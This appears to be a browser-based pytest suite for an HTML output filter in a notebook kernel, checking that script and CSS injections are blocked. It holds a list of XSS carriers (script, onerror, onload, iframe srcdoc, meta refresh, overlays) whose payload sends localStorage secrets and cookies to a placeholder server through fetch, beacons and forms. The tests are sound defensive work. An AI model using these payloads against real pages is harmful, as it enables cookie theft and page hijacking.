"""What the filter lets through, put into a real page as front ends do it, with scripts run: nothing escapes."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from playwright.sync_api import Browser, Page, sync_playwright
from test_markup import HOSTILE

from agently_kernel.outputs import OutputFilter, OutputPolicy

pytestmark = [pytest.mark.browser, pytest.mark.timeout(120)]

PAGE = """<!DOCTYPE html><style>.jp-Dialog{position:fixed;inset:0;z-index:9999;background:#fff}</style>
<body style="margin:0"><button id="trusted" style="display:block;height:40px">Allow</button><main></main><script>
localStorage.secret = '1'; document.cookie = 'secret=1';
function show(markup) {  // as front ends do: scripts in outputs are made to run
  const box = document.createElement('section');
  box.innerHTML = markup;
  document.querySelector('main').append(box);
  for (const old of box.querySelectorAll('script')) {
    const fresh = document.createElement('script');
    fresh.textContent = old.textContent;
    old.replaceWith(fresh);
  }
}
addEventListener('message', e => { (window.heights ??= []).push(e.data); });
</script>"""

# Each tries to leave a mark on the page, or to be seen by the server.
ATTACK = """
for (const reach of [() => top.marked = 1, () => parent.marked = 1, () => parent.parent.marked = 1,
    () => top.document.title = 'marked', () => frameElement.ownerDocument.title = 'marked',
    () => fetch('SERVER/fetch' + localStorage.secret), () => fetch('SERVER/cookie?' + document.cookie),
    () => navigator.sendBeacon('SERVER/beacon'), () => { new Image().src = 'SERVER/image'; },
    () => new WebSocket('ws://HOST/socket'), () => new EventSource('SERVER/events'),
    () => window.open('SERVER/popup'),
    () => { top.location = 'SERVER/top'; }, () => { parent.location = 'SERVER/parent'; },
    () => document.body.insertAdjacentHTML('beforeend', "<iframe src='SERVER/frame'></iframe>"),
    () => { const f = document.createElement('form'); f.action = 'SERVER/form'; document.body.append(f); f.submit(); },
    () => setTimeout(() => { location = 'SERVER/self'; }, 200)])
  try { reach(); } catch (error) {}
"""
CARRIERS = {
    "script": "<script>ATTACK</script>",
    "image": '<img src=x onerror="ATTACK">',
    "svg": '<svg onload="ATTACK"></svg>',
    "details": '<details open ontoggle="ATTACK">x</details>',
    "frame": '<iframe srcdoc="&lt;script&gt;ATTACK&lt;/script&gt;"></iframe>',
    "frame with an origin": (
        '<iframe sandbox="allow-scripts allow-same-origin" srcdoc="&lt;script&gt;ATTACK&lt;/script&gt;"></iframe>'
    ),
    "refresh": '<meta http-equiv="refresh" content="0;url=SERVER/refresh"><script>1</script>',
    "preload": '<link rel="prefetch" href="SERVER/prefetch"><link rel="stylesheet" href="SERVER/sheet">',
    "style": "<style>@import 'SERVER/import'; p {background: url(SERVER/css)}</style><p>x</p>",
    "inline style": "<p style='background:url(SERVER/inline)'>x</p><img src='SERVER/i'><video poster='SERVER/v'>",
    "cover": "<div class='jp-Dialog'>x</div><div style='position:fixed;inset:0;z-index:99999'>x</div>",
    "cover by a sheet": "<style>.c{position:fixed;inset:0;z-index:9} body{display:none}</style><div class='c'>x</div>",
    "margin": "<div style='margin-top:-900px;height:1000px;background:red;position:relative'>x</div>",
}


class _Server(ThreadingHTTPServer):
    hits: list[str]


class _Handler(BaseHTTPRequestHandler):
    server: _Server

    def do_GET(self) -> None:
        if self.path not in ("/", "/favicon.ico"):
            self.server.hits.append(self.path)
        self.send_response(200)
        self.send_header("content-type", "text/html")
        self.end_headers()
        self.wfile.write(PAGE.encode() if self.path == "/" else b"reached")

    do_POST = do_GET

    def log_message(self, format: str, *args: object) -> None:
        pass


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(
            executable_path="/usr/bin/chromium", args=["--no-sandbox", "--disable-gpu"]
        )
        yield browser
        browser.close()


@pytest.fixture
def server() -> Iterator[_Server]:
    server = _Server(("127.0.0.1", 0), _Handler)
    server.hits = []
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield server
    server.shutdown()
    server.server_close()
    thread.join()


@pytest.fixture
def page(browser: Browser, server: _Server) -> Iterator[Page]:
    page = browser.new_page()
    page.goto(f"http://127.0.0.1:{server.server_port}/")
    yield page
    page.close()


def _vector(carrier: str, server: _Server) -> str:
    host = f"127.0.0.1:{server.server_port}"
    attack = ATTACK if carrier == "<script>ATTACK</script>" else ATTACK.replace('"', "&quot;")
    return carrier.replace("ATTACK", attack).replace("SERVER", f"http://{host}").replace("HOST", host)


def _state(page: Page) -> dict[str, object]:
    state: dict[str, object] = page.evaluate(
        """() => ({marked: window.marked ?? null, title: document.title, address: location.pathname,
        top: document.elementFromPoint(5, 5)?.id, shown: getComputedStyle(document.body).display})"""
    )
    return state


UNTOUCHED = {"marked": None, "title": "", "address": "/", "top": "trusted", "shown": "block"}


def test_the_page_is_within_reach_without_a_filter(page: Page, server: _Server) -> None:
    page.evaluate("show", _vector(CARRIERS["script"].replace("location = 'SERVER/top'", ""), server))
    page.wait_for_timeout(500)
    assert server.hits != []


@pytest.mark.parametrize("policy", [OutputPolicy.FRAMED, OutputPolicy.STATIC], ids=lambda p: p.value)
def test_nothing_reaches_the_page_or_its_server(page: Page, server: _Server, policy: OutputPolicy) -> None:
    for carrier in [*CARRIERS.values(), *HOSTILE.values()]:
        shown = OutputFilter(policy).bundle({"text/html": _vector(carrier, server)}, {}, kind="display_data", cell="c")
        page.evaluate("show", shown.data["text/html"])
    page.wait_for_timeout(2500)
    assert _state(page) == UNTOUCHED
    assert server.hits == []
    assert len(page.context.pages) == 1


def test_what_is_framed_runs_and_tells_its_height(page: Page) -> None:
    markup = "<div id=a style='height:321px'></div><script>a.textContent = 'ran ' + (1 + 1)</script>"
    shown = OutputFilter().bundle({"text/html": markup}, {}, kind="display_data", cell="c")
    page.evaluate("show", shown.data["text/html"])
    page.wait_for_function("window.heights?.length > 0")
    inner = [frame for frame in page.frames if frame.parent_frame and frame.parent_frame.parent_frame]
    assert [frame.inner_text("#a") for frame in inner] == ["ran 2"]
    height = page.evaluate("heights.at(-1)")
    assert height["type"] == "agently.frame.height"
    assert 321 <= height["height"] <= 345


def test_the_outer_frame_of_a_frame_is_out_of_reach(page: Page) -> None:
    script = "try { a.textContent = parent.document.title } catch (e) { a.textContent = e.name }"
    markup = f"<p id=a></p><script>{script}</script>"
    shown = OutputFilter().bundle({"text/html": markup}, {}, kind="display_data", cell="c")
    page.evaluate("show", shown.data["text/html"])
    page.wait_for_function("window.heights?.length > 0")
    inner = [frame for frame in page.frames if frame.parent_frame and frame.parent_frame.parent_frame]
    assert [frame.inner_text("#a") for frame in inner] == ["SecurityError"]


def test_tables_look_as_they_did(page: Page) -> None:
    sheet = "<style>#T_x_row0_col0 {background-color: #440154; width: 10em} .dataframe td {text-align: right}</style>"
    table = sheet + "<table class='dataframe'><tr><td id='T_x_row0_col0'>1</td></tr></table>"
    shown = OutputFilter().bundle({"text/html": table}, {}, kind="display_data", cell="c").data["text/html"]
    page.evaluate("show", shown)
    style = page.evaluate(
        "(s => [s.backgroundColor, s.textAlign, s.width])(getComputedStyle(document.querySelector('td')))"
    )
    assert style == ["rgb(68, 1, 84)", "right", "160px"]
